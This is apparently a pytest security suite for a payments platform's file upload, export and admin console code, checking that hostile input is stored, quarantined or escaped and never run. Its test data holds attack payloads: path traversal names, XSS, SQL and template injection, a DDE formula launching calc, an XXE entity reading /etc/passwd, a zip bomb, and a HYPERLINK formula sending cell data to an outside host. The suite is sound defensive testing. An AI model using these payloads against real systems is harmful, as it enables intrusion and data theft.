"""Files with hostile names and contents: kept under their hash, shown as text, refused or read, and never run."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import timedelta
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.contrib.auth.models import Group
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from console.models import ReportKind
from console.reports import render
from ingestion.models import SourceFile
from ledger import render as ledger_render
from operations.models import Case
from partners import roles
from partners.models import User
from payos.kernel import clock, tenancy
from payos.kernel.spreadsheets import harmless
from reconciliation import exports
from reconciliation.models import BankAccount
from tests.security.world import furnish, order

pytestmark = pytest.mark.django_db

NAMES = [
    "../../../../etc/cron.d/payos",
    "..\\..\\windows\\system32\\x.csv",
    "/etc/passwd",
    "C:\\boot.ini",
    "a/b/c.csv",
    "nul\x00byte.csv",
    "line\r\nSet-Cookie: a=b.csv",
    "x" * 5000 + ".csv",
    "invoice\u202efdc.exe",
    "zero\u200bwidth\ufeff.csv",
    '<script>alert("name")</script>.csv',
    '"><img src=x onerror=alert(1)>.svg',
    "{{7*7}}{% debug %}.csv",
    "%s%n%d.csv",
    "'; DROP TABLE ingestion_sourcefile; --.csv",
    "=cmd|' /C calc'!A0.csv",
    "🦄 ünïcode.csv",
    ".htaccess",
    "CON",
    "   ",
]
CSV = b"date,amount,currency,reference\n2026-11-02,1.00,USD,R-%d\n"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><script>alert(1)</script>"


def upload(client: Any, content: bytes, name: str, kind: str = "text/csv", path: str = "/v1/files") -> Any:
    return client.post(path, {"file": SimpleUploadedFile(name, content, content_type=kind)}, format="multipart")


@pytest.fixture
def desk(db: Any) -> Client:
    user = User.objects.create_user("desk", password="x" * 16, is_staff=True)
    user.groups.set(Group.objects.filter(name__in=[roles.OPERATOR, roles.AUDITOR]))
    client = Client()
    client.force_login(user)
    return client


def _raw(header: str, content: bytes) -> tuple[bytes, str]:
    """A multipart body as no library would write it."""
    body = (
        f'--edge\r\nContent-Disposition: form-data; name="file"; {header}\r\nContent-Type: text/csv\r\n\r\n'.encode()
        + content
        + b"\r\n--edge--\r\n"
    )
    return body, "multipart/form-data; boundary=edge"


@pytest.mark.parametrize("number", range(len(NAMES)))
def test_a_name_is_only_a_name(api: Any, desk: Client, settings: Any, tmp_path: Path, number: int) -> None:
    settings.RAW_STORE = tmp_path / "deep" / "raw"
    answer = upload(api, CSV % number, NAMES[number])
    assert answer.status_code in {200, 201, 400}, answer.content
    kept = [path for path in tmp_path.rglob("*") if path.is_file()]
    if answer.status_code == 400:
        assert not kept
        return
    (path,) = kept
    with tenancy.platform_scope():
        (file,) = SourceFile.objects.all()
    assert path == settings.RAW_STORE / file.sha256[:2] / file.sha256 and path.read_bytes() == CSV % number
    assert path.stat().st_mode & 0o222 == 0 and path.stat().st_mode & 0o111 == 0
    assert 0 < len(file.name) <= 200 and file.name.isprintable() and "/" not in file.name
    for page in (
        "/admin/ingestion/sourcefile/",
        f"/admin/ingestion/sourcefile/{file.pk}/change/",
        "/admin/operations/case/",
    ):
        shown = desk.get(page, follow=True).content.decode()
        assert "<script>alert" not in shown and "<img src=x" not in shown and "\u202e" not in shown and "49{%" not in shown, page


@pytest.mark.parametrize(
    "header",
    [
        'filename="../../up.csv"',
        'filename=".."',
        "filename*=UTF-8''..%2F..%2Fup.csv",
        "filename*=UTF-8''%00nul.csv",
        "filename*=bogus''x",
        'filename="a\x00b.csv"',
        'filename="half \udcff.csv"'.encode("utf-8", "surrogateescape").decode("latin-1"),
        'filename=""',
    ],
)
def test_a_name_written_by_hand(api: Any, settings: Any, tmp_path: Path, header: str) -> None:
    settings.RAW_STORE = tmp_path / "deep" / "raw"
    body, kind = _raw(header, CSV % 0)
    answer = api.generic("POST", "/v1/files", body, content_type=kind)
    assert answer.status_code in {200, 201, 400}, answer.content
    assert all((tmp_path / "deep" / "raw") in path.parents for path in tmp_path.rglob("*") if path.is_file())


def archive(**files: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name, content in files.items():
            target.writestr(name, content)
    return out.getvalue()


def test_contents_that_lie_or_hurt_end_in_quarantine_with_a_case(api: Any, desk: Client, settings: Any, tmp_path: Path) -> None:
    """A file that is not what it says, that unpacks without end or that a browser would run."""
    settings.RAW_STORE = tmp_path
    zeros = b"\0" * (64 << 20)
    cases = [
        ("picture.csv", SVG, "text/csv"),
        ("page.csv", HTML, "text/html"),
        ("program.xlsx", b"MZ\x90\x00" + b"\x00" * 500, "application/vnd.ms-excel"),
        ("bomb.xlsx", archive(**{f"xl/worksheets/sheet{n}.xml": zeros for n in range(10)}), "application/zip"),
        ("zip.csv", archive(**{"../../escape.csv": CSV}), "text/csv"),
        (
            "laughs.xml",
            b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><Document>&b;</Document>',
            "text/xml",
        ),
        (
            "secret.xml",
            b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><Document>&a;</Document>',
            "text/xml",
        ),
        ("half.xlsx", archive(**{"xl/workbook.xml": b"x"})[:50], "application/octet-stream"),
        ("empty.csv", b"", "text/csv"),
        ("random.ofx", bytes(range(256)) * 40, "application/x-ofx"),
    ]
    for name, content, kind in cases:
        answer = upload(api, content, name, kind)
        assert answer.status_code in {200, 201, 400}, (name, answer.content)
        if answer.status_code != 400:
            told = answer.json()
            assert told["status"] == "quarantined", (name, told)
            assert "root:" not in answer.content.decode(), name
            page = desk.get(f"/admin/ingestion/sourcefile/{_file(told['sha256']).pk}/change/")
            assert page.status_code == 200 and b"<script>alert" not in page.content, name
    with tenancy.platform_scope():
        assert Case.objects.filter(kind="file_quarantined").count() == SourceFile.objects.filter(state="quarantined").count() >= 8
    assert not list(tmp_path.parent.glob("escape.csv"))


def _file(sha256: str) -> SourceFile:
    with tenancy.platform_scope():
        return SourceFile.objects.get(sha256=sha256)


def test_nothing_that_was_uploaded_is_served_to_a_browser(api: Any, desk: Client, settings: Any, tmp_path: Path) -> None:
    """No address gives the bytes back, by its name, its hash or its id; every answer forbids sniffing."""
    settings.RAW_STORE = tmp_path
    told = upload(api, SVG, "picture.svg", "image/svg+xml").json()
    for path in (
        f"/static/{told['sha256']}",
        f"/static/../{told['sha256']}",
        f"/raw/{told['sha256'][:2]}/{told['sha256']}",
        "/media/picture.svg",
        f"/v1/files/{told['id']}",
    ):
        answer = desk.get(path)
        content = b"".join(answer.streaming_content) if answer.streaming else answer.content
        assert answer.status_code == 404 and SVG not in content, path
    for path in ("/admin/", "/v1/me", "/v1/docs", "/accounts/login/"):
        answer = desk.get(path)
        assert (
            answer.headers["X-Content-Type-Options"] == "nosniff" and "default-src 'self'" in answer.headers["Content-Security-Policy"]
        ), path


def test_a_transfer_file_is_bounded_and_its_header_is_data(api: Any, partner: Any, settings: Any) -> None:
    settings.API_MAX_BODY = 10_000
    path = "/v1/transfers/batch"
    head = b"amount,currency,destination.type\n"
    big = upload(api, head + b"1.00,USD,us_bank\n" * 2000, "big.csv", path=path)
    assert big.status_code == 413 and big.json()["code"] == "payload_too_large"
    hostile = [
        b"", b"\n\n", b"\xff\xfe\x00", b"amount\n\x00\n", b'"unclosed\n', b"a" * 9000, b"," * 5000 + b"\n" + b"," * 4000,
        b"destination,destination.type\nx,us_bank\n", b"destination.type,destination\nus_bank,x\n", b"__class__.__init__,amount\nx,1.00\n",
        b"amount,amount\n1.00,2.00\n", b"=1+1,amount\n1,1.00\n", head + b"1e400,USD,us_bank\n", head + b"NaN,USD,us_bank\n", SVG, archive(x=b"x"),
    ]  # fmt: skip
    for content in hostile:
        answer = upload(api, content, '<b>"name"</b>.csv', path=path)
        assert 400 <= answer.status_code < 500 and answer.json()["detail"], (content[:40], answer.content)


def test_too_many_parts_and_fields_are_refused(api: Any) -> None:
    many = {f"f{n}": "x" for n in range(5000)}
    assert 400 <= api.post("/v1/files", many, format="multipart").status_code < 500
    files = {f"f{n}": SimpleUploadedFile("x.csv", b"x") for n in range(300)}
    assert 400 <= api.post("/v1/files", files, format="multipart").status_code < 500


FORMULAS = [
    "=cmd|' /C calc'!A0", "+1+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
    "\xa0=1+1", "\ufeff=1+1", "＝1+1", "－1+1", '=HYPERLINK("http://elsewhere.example/?"&A1)', "=1\x00+1",
]  # fmt: skip


def runs(cell: str) -> bool:
    """Whether a spreadsheet would evaluate it."""
    return cell.strip(" \t\r\n\xa0\ufeff")[:1] in set("=+-@＝＋－＠") and not cell.lstrip("-").replace(".", "", 1).isdigit()


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text_and_a_number_stays_one(text: str) -> None:
    assert runs(text) and not runs(harmless(text))


@pytest.mark.parametrize("text", ["-12.50", "12", "0.01", "", "plain", "a=b", "2026-11-02", "x+y"])
def test_harmless_text_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


def cells_of_csv(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode())) for cell in row]


def cells_of_xlsx(content: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    found = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not any(cell.data_type == "f" for cell in found), [cell.value for cell in found if cell.data_type == "f"]
    return [cell.value for cell in found if isinstance(cell.value, str)]


def test_no_export_carries_a_formula(partner: Any, api: Any) -> None:
    """Hostile text where partners and banks can put it, and then every export there is."""
    mark = "=cmd|x"
    furnish(partner, False, "plain")
    with tenancy.platform_scope():
        partner.name = mark
        partner.save(update_fields=["name"])
        account = BankAccount.objects.get()
        _hostile_rows(partner, account, mark)
        today = clock.now().date()
        made = [
            cells_of_csv(exports.as_csv(account, today - timedelta(days=1), today)),
            cells_of_xlsx(exports.as_xlsx(account, today - timedelta(days=1), today)),
        ]
        assert any(mark in cell for cells in made for cell in cells), "the hostile text is in none of them"
    made.append(cells_of_csv(b"".join(api.get("/v1/ledger/trial_balance.csv").streaming_content)))
    line = list(ledger_render.csv_lines(["a"], [[text] for text in FORMULAS]))
    made.append(cells_of_csv("".join(line[1:]).encode()))
    sections = [{"title": mark, "head": [mark, "b"], "rows": [[text, "1.00"] for text in FORMULAS], "numbers": [1]}]
    report = {"title": mark, "made_at": "now", "sections": sections}
    made += [cells_of_csv(render.as_csv(report)), cells_of_xlsx(render.as_xlsx(report))]
    wrong = [cell for cells in made for cell in cells if runs(cell)]
    assert not wrong, wrong
    assert len(ReportKind.values) >= 4  # all of them leave through render.render


def _hostile_rows(partner: Any, account: BankAccount, mark: str) -> None:
    from ingestion import services as ingestion

    rows = "".join(
        f'{clock.now().date()},{n + 1}.00,USD,"{text}","{mark} {n}",IDplain\n'
        for n, text in enumerate(FORMULAS)
        if "\x00" not in text and '"' not in text
    )
    content = b"date,amount,currency,reference,description,account\n" + rows.encode()
    file, _ = ingestion.receive_file(content=io.BytesIO(content), name="formulas.csv", partner_id=partner.pk)
    file = ingestion.process_file(file=file)
    assert file.state in {"processed", "flagged"}, file.facts


def test_hostile_text_of_a_partner_is_text_in_the_console(api: Any, partner: Any, desk: Client) -> None:
    from tests.security.world import rail

    rail()
    bad = '<script>alert("x")</script>'
    assert api.post("/v1/webhooks", {"url": "http://127.0.0.1:49151/h", "event_types": ["*"], "description": bad}).status_code == 201
    from tests.settlement.conftest import fund

    fund(partner, 10_000)
    made = api.post("/v1/transfers", order(reference=bad, description=bad, metadata={bad: bad}))
    assert made.status_code in {201, 400, 422}, made.content
    with tenancy.platform_scope():
        partner.name = bad
        partner.save(update_fields=["name"])
    for page in (
        "settlement/transfer",
        "webhooks/endpoint",
        "partners/partner",
        "kernel/outboxevent",
        "kernel/auditevent",
        "operations/case",
    ):
        answer = desk.get(f"/admin/{page}/", follow=True)
        assert answer.status_code in {200, 403} and bad.encode() not in answer.content, page
